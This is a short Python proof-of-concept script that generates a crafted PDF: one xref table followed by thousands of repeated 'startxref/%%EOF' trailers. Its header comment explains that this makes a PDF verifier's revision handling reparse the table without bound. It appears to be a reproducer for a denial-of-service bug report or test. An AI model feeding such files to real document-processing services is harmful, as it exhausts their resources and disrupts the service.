# verify_pdf: one revision with an xref table of `objects` entries, followed by `repeats` copies of
# "startxref <same offset> %%EOF". changes::revisions opens the prefix ending at every %%EOF with
# PdfFile::open (xref table parsed and checked again each time); prefixes that show no new
# section are skipped without counting against Policy::max_revisions, so the cost is
# repeats x objects with no bound.
# usage: eof_repeat.py OUT [objects=5000] [repeats=2000]
import sys
out = sys.argv[1]
objects = int(sys.argv[2]) if len(sys.argv) > 2 else 5000
repeats = int(sys.argv[3]) if len(sys.argv) > 3 else 2000
body = bytearray(b"%PDF-1.7\n")
offsets = {}
objs = [
    (1, b"<< /Type /Catalog /Pages 2 0 R >>"),
    (2, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"),
    (3, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"),
] + [(n, b"null") for n in range(4, objects)]
for num, data in objs:
    offsets[num] = len(body)
    body += b"%d 0 obj %s endobj\n" % (num, data)
xref_at = len(body)
size = max(offsets) + 1
body += b"xref\n0 %d\n0000000000 65535 f \n" % size
for k in range(1, size):
    body += b"%010d 00000 n \n" % offsets[k]
body += b"trailer\n<< /Size %d /Root 1 0 R >>\n" % size
tail = b"startxref\n%d\n%%%%EOF\n" % xref_at
body += tail * repeats
open(out, "wb").write(bytes(body))
